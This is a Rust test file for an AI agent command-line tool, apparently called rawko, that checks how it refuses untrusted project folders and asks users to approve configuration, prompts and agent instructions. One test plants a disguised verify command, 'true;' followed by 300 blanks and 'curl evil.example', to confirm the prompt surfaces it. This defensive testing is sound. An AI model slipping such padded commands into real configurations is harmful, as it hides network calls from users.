//! Trust: what an untrusted folder may not have, and how it is given and taken.

use serde_json::json;

use crate::place::Place;

fn place() -> Place {
    Place::scripted(&json!([
        {"for": "select", "repeat": true, "decision": {"decision": "SELECT_MODE", "mode": "planner", "reason": "look"}},
        {"for": "planner", "repeat": true, "tools": [{"name": "Report", "input": {"outcome": "success", "summary": "Seen."}}]},
        {"for": "evaluate", "repeat": true, "decision": {"decision": "COMPLETE", "reason": "nothing to do"}},
    ]))
}

#[test]
fn an_untrusted_folder_is_refused_until_it_is_trusted_as_it_is() {
    let place = place();
    let refused = place.rawko(&["do it"]).ends(5);
    insta::assert_snapshot!(place.normal(&refused.err));
    assert!(!place.project().join(".rawko/sessions").exists(), "nothing was begun");
    place.rawko(&["do it", "--yes"]).ends(0);
    place.rawko(&["do it"]).ends(5);

    place.rawko(&["trust"]).ends(0).says(&["is trusted", "config.yaml:"]);
    place.rawko(&["do it"]).ends(0);
    place.rawko(&["config", "check"]).ends(0).says(&["and the folder is trusted"]);

    place.write(".rawko/prompts/arbiter-select.md", "Choose.\n");
    place.rawko(&["do it"]).ends(5);
    let trusted = place.rawko(&["trust", "--json"]).ends(0).says(&["\"trusted\": true"]).json();
    assert_eq!(trusted["changed"], json!([{"path": ".rawko/prompts/arbiter-select.md", "change": "new"}]));
    place.write(".rawko/prompts/arbiter-select.md", "Choose well.\n");
    place.rawko(&["do it"]).ends(5);
    let changed = "these files changed:\n  .rawko/prompts/arbiter-select.md\n";
    place.rawko(&["trust"]).ends(0).says(&[changed]);
    assert!(!place.rawko(&["trust"]).ends(0).out.contains("changed:"));
    place.rawko(&["do it"]).ends(0);
    place.rawko(&["trust", "--revoke"]).ends(0).says(&["no longer trusted"]);
    place.rawko(&["do it"]).ends(5);
    place.rawko(&["config", "check"]).ends(0).says(&["the folder is not trusted", "rawko trust"]);
}

/// Runs it at a terminal where a user types this: the exit status, and all that the terminal shows.
fn at_a_terminal(place: &Place, arguments: &[&str], typed: &str) -> (Option<i32>, String) {
    use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
    use std::io::{Read as _, Write as _};

    let terminal = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&terminal).unwrap();
    unlockpt(&terminal).unwrap();
    let name = ptsname(&terminal, Vec::new()).unwrap().into_string().unwrap();
    let open = || std::fs::File::options().read(true).write(true).open(&name).unwrap();
    let mut child =
        place.command(arguments).stdin(open()).stdout(open()).stderr(open()).spawn().expect("the binary");
    let mut terminal = std::fs::File::from(terminal);
    terminal.write_all(typed.as_bytes()).unwrap();
    let mut shown = Vec::new();
    // It fails when the last process at the terminal has ended.
    let _ = terminal.read_to_end(&mut shown);
    (child.wait().unwrap().code(), String::from_utf8_lossy(&shown).replace("\r\n", "\n"))
}

#[test]
fn somebody_at_a_terminal_is_asked_once() {
    let place = place();
    let question = "Trust it as it is now? [y/N/show]";
    for no in ["\n", "n\n", "\u{4}", "what?\n\u{4}"] {
        let (code, shown) = at_a_terminal(&place, &["do it"], no);
        assert_eq!(code, Some(5), "{shown}");
        assert!(shown.contains(question) && shown.contains("would replay the script script.yaml"), "{shown}");
    }
    assert!(!place.project().join(".rawko/sessions").exists(), "nothing was begun");
    // Trust outlasts the options of this command.
    let config = std::fs::read_to_string(place.project().join(".rawko/config.yaml")).unwrap();
    place.write(".rawko/config.yaml", &format!("{config}verify: [make check]\n"));
    for options in [&["do it"][..], &["--no-verify", "do it"]] {
        let (_, shown) = at_a_terminal(&place, options, "n\n");
        assert!(shown.contains("make check"), "{shown}");
    }
    place.write(".rawko/config.yaml", &config);
    let (code, shown) = at_a_terminal(&place, &["do it"], "show\ny\n");
    assert_eq!(code, Some(0), "{shown}");
    assert!(shown.contains("--- .rawko/config.yaml\nprovider:\n  default: s\n"), "{shown}");
    assert_eq!(shown.matches(question).count(), 2, "{shown}");
    let (code, shown) = at_a_terminal(&place, &["do it"], "");
    assert!(code == Some(0) && !shown.contains(question), "{shown}");

    place.write("script.yaml", "[]\n");
    place.rawko(&["do it"]).ends(5);
}

#[test]
fn nothing_that_is_trusted_is_hidden() {
    let place = place();
    let config = std::fs::read_to_string(place.project().join(".rawko/config.yaml")).unwrap();
    let many: String = (1..=30).map(|n| format!("      caches-{n}: 1\n")).collect();
    let evil = format!("true;{}curl evil.example", " ".repeat(300));
    place.write(
        ".rawko/config.yaml",
        &format!("{config}  claude:\n    extra:\n{many}{}verify: [\"{evil}\"]\n", "# filler\n".repeat(9_000)),
    );
    place.write(".rawko/prompts/arbiter-select.md", "Choose.\n");
    place.write("AGENTS.md", "Rhyme.\n");
    let (_, shown) = at_a_terminal(&place, &["do it"], "show\nn\n");
    let (question, files) = shown.split_once("[y/N/show]").unwrap();
    let command = "`true; [300 blanks] curl evil.example` would be run";
    let first = question.lines().find(|line| line.starts_with("  .rawko")).unwrap();
    assert!(first.contains(command), "the most dangerous claim comes first: {first}");
    assert!(question.contains("the field `caches-30`"), "{question}");
    assert!(
        question.contains("1 prompt template in .rawko/prompts are used; agents follow AGENTS.md"),
        "{question}"
    );
    assert!(files.contains("verify: [\"true; [300 blanks] curl evil.example\"]"), "{files}");
    assert!(files.contains(" lines left out"), "{files}");
    for name in ["--- .rawko/config.yaml", "--- .rawko/prompts/arbiter-select.md\nChoose.", "--- script.yaml"]
    {
        assert!(files.contains(name), "{name}: {files}");
    }
    let json = place.rawko(&["trust", "--json"]).ends(0);
    assert!(json.out.contains(&evil), "{}", json.out);
    place.rawko(&["trust"]).ends(0).says(&[command, "the field `caches-30`", "agents follow AGENTS.md"]);
}

#[test]
fn a_project_folder_that_is_a_link_is_refused() {
    let place = Place::new();
    let outside = place.tmp();
    std::os::unix::fs::symlink(&outside, place.project().join(".rawko")).unwrap();
    let memory = ["memory", "add", "--title", "T", "--when-to-use", "w", "--body", "b"];
    for arguments in [&["do it"][..], &["init"], &memory] {
        place.rawko(arguments).ends(2).complains(&[".rawko is a link", "remove the link"]);
    }
    assert_eq!(std::fs::read_dir(outside).unwrap().count(), 0, "nothing was written where it leads");
}

#[test]
fn the_folder_of_trust_is_the_users_alone() {
    use std::os::unix::fs::PermissionsExt as _;
    let place = place();
    place.rawko(&["do it", "--yes"]).ends(0);
    place.rawko(&["trust"]).ends(0);
    let folder = place.project().join("../home/.local/state/rawko");
    let mode = || std::fs::metadata(&folder).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(), 0o700);
    let set = |path: &std::path::Path, mode| {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
    };
    set(&folder, 0o777);
    place.rawko(&["do it"]).ends(0);
    assert_eq!(mode(), 0o755, "no other user writes there any more");
    set(&folder.join("trust.json"), 0o666);
    place.rawko(&["do it"]).ends(5).complains(&["somebody else wrote it, or may write to it"]);
}

#[test]
fn what_an_untrusted_folder_says_to_models_is_left_out_and_named() {
    let place = Place::new();
    // A provider of the user's without its key: nothing is run.
    place.write("../home/.config/rawko/config.yaml", "provider:\n  default: openai\n");
    place.write(".rawko/prompts/arbiter-select.md", "Choose.\n");
    place.write(".rawko/memories/a.md", "---\ntitle: A\n---\nx\n");
    place.write("AGENTS.md", "Rhyme.\n");
    let warning = "this folder is not trusted, so its prompt templates and memories are not used";
    place.rawko(&["do it"]).ends(4).complains(&[warning, "rawko trust"]);
    place.rawko(&["trust"]).ends(0).says(&["is trusted"]);
    let trusted = place.rawko(&["do it"]).ends(4);
    assert!(!trusted.err.contains(warning), "{}", trusted.err);
    place.write(".rawko/prompts/arbiter-select.md", "Choose another.\n");
    place.rawko(&["do it"]).ends(4).complains(&[warning]);

    let place = Place::new();
    place.write("AGENTS.md", "Rhyme.\n");
    place.rawko(&["trust"]).ends(0).says(&["agents follow AGENTS.md"]);
}

#[test]
fn looking_needs_no_trust_and_acting_does() {
    let place = place();
    place.rawko(&["agents", "list"]).ends(0);
    place.rawko(&["config", "show"]).ends(0).says(&["provider.default = s"]);
    place.rawko(&["tools", "call", "Read", "--agent", "planner", "--input", r#"{"file_path":"x"}"#]).ends(5);
    place.rawko(&["providers", "models"]).ends(5);
    let doctor = place.rawko(&["doctor"]).ends(1);
    doctor.says(&["problem  trust", "rawko trust"]);
}

#[test]
fn a_folder_without_configuration_has_nothing_to_trust() {
    let place = Place::new();
    place.rawko(&["trust"]).ends(0).says(&["nothing to trust"]);
    let mut command = place.command(&["trust"]);
    crate::support::Said::of(command.env_remove("HOME").output().unwrap())
        .ends(2)
        .complains(&["neither XDG_STATE_HOME nor HOME is set"]);
}

#[test]
fn the_message_names_the_file_that_agents_follow_and_skills_that_count() {
    let place = Place::new();
    std::fs::create_dir(place.project().join(".git")).unwrap();
    place.write("CLAUDE.md", "Be brief.\n");
    place.write("part/code.txt", "x\n");
    let part = place.project().join("part");
    std::fs::create_dir(part.join(".rawko")).unwrap();
    let folder = part.to_str().unwrap();
    place.rawko(&["--cwd", folder, "trust"]).ends(0).says(&["agents follow ../CLAUDE.md"]);

    let place = Place::new();
    let skill = |what: &str| format!("---\nname: greet\ndescription: {what}\n---\nGreet.\n");
    place.write(".rawko/skills/greet/SKILL.md", &skill("Greets."));
    place.write(".claude/skills/greet/SKILL.md", &skill("Greets otherwise."));
    place.write("AGENTS.md", "Be brief.\n");
    place.rawko(&["trust"]).ends(0).says(&["offered the skills greet; agents follow AGENTS.md"]);
}
